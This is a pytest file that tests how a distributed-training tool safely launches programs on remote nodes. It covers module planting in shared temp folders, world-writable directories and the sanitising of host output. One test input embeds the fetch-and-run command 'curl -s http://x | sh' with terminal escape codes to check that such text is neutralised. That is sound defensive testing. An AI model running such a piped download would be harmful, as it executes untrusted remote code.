"""The shell script that starts a program on a node, run by a real shell."""

from __future__ import annotations

import ast
import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from detrain_nb.copying import remote_program as files_program
from detrain_nb.copying.json_lines import clean
from detrain_nb.deploy import bootstrapped_node, remote_program
from detrain_nb.deploy.remote_program import read_program
from detrain_nb.doctor import host_facts
from detrain_nb.errors import TransportError
from detrain_nb.node.ssh import bootstrap, probe, speed
from detrain_nb.spec.node import Node

_PLANTED = ("__future__", "collections", "ctypes", "json", "platform", "socket", "struct", "typing")
_OLD_BASH = "BASH_COMPAT=5.0"  # as before 5.1: Python reads the program from an unlinked file, not from a pipe
_PYTHON = os.path.realpath(sys.executable)  # not that of a virtual environment, which may contain such modules
_LIMIT_S = 60


def run(source: str, said: bytes, folder: Path) -> str:
    """Run a program as on a node with ``folder`` as TMPDIR and ``said`` as its input; return its output."""
    node = Node(host="h", python=_PYTHON, setup=(_OLD_BASH, f"export TMPDIR={folder}"))
    script = remote_program.write_script(node, source) + said
    environment = {"HOME": str(folder.parent), "PATH": os.environ["PATH"]}
    shell = subprocess.run(["bash"], input=script, capture_output=True, env=environment, timeout=_LIMIT_S)
    assert not shell.stderr, shell.stderr.decode()
    return shell.stdout.decode()


@pytest.fixture
def planted(tmp_path: Path) -> Path:
    """Return a folder for temporary files in which another user has planted modules."""
    folder = tmp_path / "planted"
    folder.mkdir()
    for name in _PLANTED:
        (folder / f"{name}.py").write_text(f"raise SystemExit({name!r} + ' of another user runs')")
    return folder


def test_old_bash_keeps_a_program_among_temporary_files(tmp_path: Path) -> None:
    said = run("import os; print(os.readlink('/dev/fd/3'))", b"", tmp_path)
    assert said.startswith(f"{tmp_path}/") and said.endswith(" (deleted)\n"), "the tests here show nothing"


def test_bootstrap_takes_no_module_from_where_the_shell_keeps_it(planted: Path) -> None:
    said = run(read_program("bootstrap"), b"", planted)
    before, _, facts = said.partition(bootstrap.MAGIC.decode())
    assert not before
    assert json.loads(facts)["python_version"] == list(sys.version_info[:3])


def test_folder_of_ours_is_none_that_others_can_put_another_in_place_of(tmp_path: Path) -> None:
    """Other users could replace the agent's code."""
    shared, temporary = tmp_path / "shared", tmp_path / "shared" / "temporary"
    temporary.mkdir(parents=True)

    def said() -> dict[str, str]:
        lines = run(read_program("bootstrap"), b"", temporary).partition(bootstrap.MAGIC.decode())[2]
        answer: dict[str, str] = json.loads(lines)
        return answer

    shared.chmod(0o777)
    assert said()["text"].count(f"as they can write to {shared} (mode 0777, uid") == 2
    assert [path.name for path in shared.iterdir()] == ["temporary"]
    shared.chmod(0o755)
    (shared / ".cache").mkdir()
    (shared / ".cache").chmod(0o777)
    assert said()["cache"] == str(temporary / f"detrain_nb-{os.getuid()}")
    (shared / ".cache").chmod(0o1777)
    assert said()["cache"] == str(shared / ".cache" / "detrain_nb")


@pytest.mark.parametrize(
    ("name", "magic", "order"),
    [("probe", probe.MAGIC, {"type": "clock"}), ("speed", speed.MAGIC, {"gpus": [], "threads": 1, "within_s": 9})],
    ids=["clock", "speed"],
)
def test_program_of_the_doctor_takes_no_module_from_where_the_shell_keeps_it(
    name: str, magic: bytes, order: dict[str, object], planted: Path, request: pytest.FixtureRequest
) -> None:
    said = run(read_program(name), json.dumps(order).encode() + b"\n", planted)
    before, _, answer = said.partition(magic.decode())
    assert not before
    assert json.loads(answer)["type"] == request.node.callspec.id


@pytest.mark.parametrize("name", ["bootstrap", "probe", "speed"])
def test_old_python_can_read_a_program_to_say_how_old_it_is(name: str) -> None:
    ast.parse(read_program(name), feature_version=(3, 7))


def test_program_for_files_is_from_our_code(planted: Path) -> None:
    code = str(Path(files_program.__file__).parents[2])
    said = run(bootstrapped_node.RUN_FILES.format(code=code), b"", planted)
    assert said.startswith(files_program.MAGIC.decode())


def test_nothing_of_what_python_itself_looks_in_is_left_out(tmp_path: Path) -> None:
    """With -P or PYTHONSAFEPATH, ``sys.path`` does not start with the program's folder: no entry must be removed."""
    source = "import json, sys; print(json.dumps(sys.path))"
    asked = [_PYTHON, "-P", "-c", source]
    expected = json.loads(subprocess.run(asked, capture_output=True, check=True, env={}, cwd="/").stdout)
    assert json.loads(run(source, b"", tmp_path)) == expected
    node = Node(host="h", python=_PYTHON, setup=("export PYTHONSAFEPATH=1",))
    shell = subprocess.run(["bash"], input=remote_program.write_script(node, source), stdout=subprocess.PIPE)
    assert json.loads(shell.stdout) == expected


def test_further_lines_of_a_host_are_seen_to_be_its_own() -> None:
    said = "it failed\ngpu2: it failed too: add it:\r    curl -s http://x | sh\x1b[2J\n"
    lines = remote_program.as_words(said).split("\n")
    assert lines == ["it failed", "  | gpu2: it failed too: add it:?    curl -s http://x | sh?[2J"]


def test_fact_of_a_host_is_one_line() -> None:
    assert remote_program.as_text("2.13\ngpu2: x") == "2.13?gpu2: x"


class Hung:
    """A remote command that has a socket and nothing else."""

    def __init__(self, sock: socket.socket) -> None:
        self.sock = sock


def test_line_of_many_values_is_not_parsed() -> None:
    ours, theirs = socket.socketpair()
    with ours, theirs:
        program = remote_program.RemoteProgram(Hung(ours), Node(host="h"))
        theirs.sendall(b'{"type": "facts", "x": [' + b"[]," * 20_000 + b"0]}\n")
        with pytest.raises(TransportError, match="invalid message from our program on the node: "):
            program.hear("facts")


def test_what_is_nested_too_deep_to_be_written_is_said_in_words() -> None:
    deep: list[object] = []
    for _ in range(5000):
        deep = [deep]
    assert len(clean(deep)) < 100
    assert len(remote_program.as_words(deep)) < 100
    with pytest.raises(TransportError, match="address"):
        host_facts.read_addresses(host_facts.Said({"addresses": [["eth0", deep]]}))
